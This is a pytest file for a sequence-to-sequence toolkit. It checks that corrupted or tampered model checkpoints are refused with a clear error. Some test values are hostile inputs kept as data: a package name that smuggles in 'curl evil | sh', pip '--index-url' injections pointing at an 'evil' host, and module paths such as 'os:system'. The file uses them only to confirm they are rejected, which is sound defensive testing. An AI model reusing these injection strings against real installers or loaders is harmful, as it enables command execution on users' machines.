"""A model on disk is loaded as it was, or refused with the name of the file that is damaged."""

import json
import sys
from pathlib import Path

import attrs
import pytest
import safetensors.torch

from s2s_core import ConfigError, Example, ModelError, PluginError
from s2s_core.config.resolve import resolve
from s2s_core.model.checkpoint import load_checkpoint, new_checkpoint
from s2s_core.model.ensemble import Ensemble
from s2s_core.model.together import load_together
from s2s_core.plugins.registry import Plugins
from s2s_core.runs.components import train_tokenizers
from s2s_core.runs.run import Run

TABLES = {
    "task": "copy",
    "encoder": {"name": "mlp-rnn", "hidden_size": 8},
    "decoder": {"hidden_size": 8},
    "source": {"embedding_size": 4},
}
EXAMPLES = [Example("abc", "cba"), Example("Ab", "bA")]
RECORD = {"kind": "task", "name": "copy", "distribution": "s2s-toolkit", "version": "1"}


@pytest.fixture(scope="module")
def plugins():
    """What is installed."""
    return Plugins()


@pytest.fixture
def make_run(tmp_path, plugins):
    """Makes runs with an untrained model on disk."""

    def make(name, tables=(), examples=EXAMPLES):
        run = Run(tmp_path / name, resolve([TABLES, dict(tables)], plugins), plugins)
        run.create()
        checkpoint = new_checkpoint(run, *train_tokenizers(run.config, examples, plugins))
        checkpoint.save_description(run)
        checkpoint.save_weights(run, 1)
        return run

    return make


@pytest.fixture
def run(make_run):
    """One of them."""
    return make_run("mine")


def refusal(path: Path, load, *arguments):
    """Returns what is wrong with a file, as the error says it."""
    with pytest.raises(ModelError) as refused:
        load(*arguments)
    assert str(refused.value).startswith(f"{path} is damaged")
    return str(refused.value).removeprefix(f"{path} is damaged")


@pytest.mark.parametrize(
    "records", [None, 5, "x", {"a": 1}, [1], [{}], [RECORD | {"kind": 5}], [RECORD, {"kind": "task", "name": "copy"}]]
)
def test_a_description_that_names_no_plugins_is_refused(run, records):
    """Whatever stands in their place."""
    description = json.loads(run.description_path.read_text())
    run.description_path.write_text(json.dumps(description | {"plugins": records}))
    message = refusal(run.description_path, load_checkpoint, run)
    assert message == ": plugins must say of each component distribution, kind, name, version"


@pytest.mark.parametrize(
    "package",
    [
        {"distribution": "s2s-x; curl evil | sh"},
        {"distribution": "--index-url"},
        {"version": "1.2 --index-url=https://evil"},
        {"version": "1.2\n"},
        {"distribution": "https://evil/x.whl"},
    ],
)
def test_what_can_not_be_a_distribution_is_refused(run, package):
    """As it would stand in the message that says what to install, from where a user might copy it."""
    description = json.loads(run.description_path.read_text())
    run.description_path.write_text(json.dumps(description | {"plugins": [RECORD | {"name": "x"} | package]}))
    message = refusal(run.description_path, load_checkpoint, run)
    assert message == ": plugins must say of each component distribution, kind, name, version"


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        ({"distribution": "s2s-x", "version": "1.2+cu1"}, "task 'x' isn't installed: pip install s2s-x==1.2+cu1"),
        ({"distribution": "", "version": ""}, "task 'x' isn't installed: it belonged to no distribution"),
    ],
)
def test_what_is_missing_is_named(run, record, expected):
    """With its version, and how to install it; nothing is imported for it."""
    description = json.loads(run.description_path.read_text())
    run.description_path.write_text(json.dumps(description | {"plugins": [RECORD | {"name": "x"} | record]}))
    with pytest.raises(PluginError) as refused:
        load_checkpoint(run)
    assert expected == str(refused.value)


@pytest.mark.parametrize("name", ["os:system", "os", "../../evil", "evil.py", "s2s_core.runs.run:Run", "__main__:main"])
@pytest.mark.parametrize("place", ["task", "encoder", "decoder", "source.tokenizer"])
def test_a_name_is_looked_up_among_what_is_installed(run, place, name, tmp_path, monkeypatch):
    """It is no address of anything that could be imported or called."""
    (tmp_path / "evil.py").write_text("raise SystemExit('imported')")
    monkeypatch.syspath_prepend(tmp_path)
    description = table = json.loads(run.description_path.read_text())
    for part in ("config", *place.split(".")):
        table = table[part]
    table["name"] = name
    run.description_path.write_text(json.dumps(description))
    kind = place.rpartition(".")[2]
    assert refusal(run.description_path, load_checkpoint, run).startswith(f": unknown {kind} {name!r}; there are: ")
    assert "evil" not in sys.modules


HEADER = '{"__metadata__":{},"x":{"dtype":"F32","shape":[%s],"data_offsets":[0,%d]}}'


@pytest.mark.parametrize(
    "content",
    [
        b"",
        (2**63).to_bytes(8, "little") + b"{}",
        (200_000).to_bytes(8, "little") + b"[" * 200_000,
        *(
            len(header).to_bytes(8, "little") + header.encode() + bytes(4)
            for header in (HEADER % (f"{2**40},{2**40}", 4), HEADER % (f"{2**20}", 2**22), HEADER % ("1", 4))
        ),
    ],
    ids=["nothing", "endless header", "brackets", "overflow", "too short", "of another model"],
)
def test_weights_of_wrong_sizes_are_refused(run, content):
    """Whatever their file claims."""
    run.weights_path.write_bytes(content)
    assert refusal(run.weights_path, load_checkpoint, run).startswith(" or of another model: ")


def test_weights_of_another_shape_are_refused(run):
    """They are of another model."""
    weights = safetensors.torch.load_file(run.weights_path)
    weights["projection.bias"] = weights["projection.bias"][:-1].clone()
    safetensors.torch.save_file(weights, run.weights_path)
    assert "size mismatch for projection.bias" in refusal(run.weights_path, load_checkpoint, run)


def test_brackets_without_end_are_refused(run):
    """The parser gives up on them."""
    run.description_path.write_text("[" * 100_000)
    refusal(run.description_path, load_checkpoint, run)


@pytest.mark.parametrize(
    ("path", "value", "expected"),
    [
        ("config", [], "a run must be a table of settings (got [])"),
        ("config", {}, "a run must have decoder, encoder, source, target, task"),
        ("config.encoder.hidden_size", 2**62, "encoder.hidden_size must be "),
        ("config.encoder.hidden_size", 10**7, "encoder.hidden_size must be "),
        ("config.encoder", 5, "encoder must be a name or a table (got 5)"),
        ("source_tokenizer", [], "the saved tokenizer 'characters' is damaged: "),
    ],
)
def test_a_description_that_can_not_be_used_is_refused(run, path, value, expected):
    """The message names the file and what in it is wrong."""
    description = inner = json.loads(run.description_path.read_text())
    *tables, last = path.split(".")
    for table in tables:
        inner = inner[table]
    inner[last] = value
    run.description_path.write_text(json.dumps(description))
    assert refusal(run.description_path, load_checkpoint, run).startswith(f": {expected}")


@pytest.mark.parametrize("value", ["nan", "inf"])
def test_weights_that_are_no_numbers_are_refused(run, value):
    """Their answers would mean nothing."""
    weights = safetensors.torch.load_file(run.weights_path)
    weights["projection.bias"][1] = float(value)
    safetensors.torch.save_file(weights, run.weights_path)
    assert ": some weights are infinite or not numbers" == refusal(run.weights_path, load_checkpoint, run)


@pytest.mark.parametrize("side", ["source", "target"])
@pytest.mark.parametrize(
    ("one", "other", "different"),
    [
        ({"name": "bytes"}, {"name": "bytes", "fold_case": True}, ".tokenizer.fold_case (True and False)"),
        ({"name": "bytes"}, {"name": "bytes", "normalization": "nfkc"}, ".tokenizer.normalization ('nfkc' and 'none')"),
        ({"name": "characters"}, {"name": "words"}, ".tokenizer ('words' and 'characters')"),
    ],
)
def test_tokenizers_that_differ_do_not_answer_together(make_run, side, one, other, different):
    """Even if they save the same; the message says in what."""
    runs = [make_run(name, {side: {"tokenizer": tokenizer}}) for name, tokenizer in (("one", one), ("other", other))]
    assert load_together(runs[:1]).model is not None
    with pytest.raises(ConfigError) as refused:
        load_together(runs)
    assert f"{runs[1].folder} and {runs[0].folder} have different {side}{different}, " in str(refused.value)


def test_vocabularies_that_differ_do_not_answer_together(make_run):
    """An id must mean the same to each."""
    runs = [make_run("one"), make_run("other", examples=[Example("abc", "xyz"), Example("Ab", "bA")])]
    with pytest.raises(ConfigError, match="have different target vocabularies, so they can't answer together"):
        load_together(runs)


def test_models_may_read_in_different_directions(make_run):
    """How a model reads is its own affair."""
    runs = [make_run("one"), make_run("other", {"source": {"reverse": True}})]
    together = load_together(runs).model
    assert isinstance(together, Ensemble)
    assert [False, True] == [model.reverse_source for model in together.models]
    assert attrs.asdict(runs[0].config.source.tokenizer) == attrs.asdict(runs[1].config.source.tokenizer)


def edit(run, before, after):
    """Changes a line of ``run.toml`` and opens the run again."""
    text = run.settings_path.read_text(encoding="utf-8")
    assert before in text
    run.settings_path.write_text(text.replace(before, after), encoding="utf-8")
    return Run.open(run.folder, run.plugins)


def test_the_model_follows_what_may_be_changed_after_training(run):
    """Search, evaluation and export have one home, ``run.toml``; ``model.json`` says nothing of them."""
    edited = edit(run, "beam_size = 1\n", "beam_size = 4\n")
    assert 4 == load_checkpoint(edited).config.decoding.beam_size
    assert not {"decoding", "evaluation", "export"} & set(json.loads(run.description_path.read_text())["config"])


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        (
            "steps = 3000\n",
            "steps = 3001\n",
            "training.steps = 3001, but the model was trained with training.steps = 3000",
        ),
        ("hidden_size = 8\n", "hidden_size = 9\n", "encoder.hidden_size = 9, but the model was trained with"),
    ],
)
def test_a_setting_that_the_model_was_not_trained_with_is_refused(run, before, after, said):
    """The message names the setting, the two values and the way out."""
    edited = edit(run, before, after)
    with pytest.raises(ConfigError) as refused:
        load_checkpoint(edited)
    assert str(refused.value).startswith(f"{run.settings_path} says {said}")
    assert "put that back, or train another run" in str(refused.value)
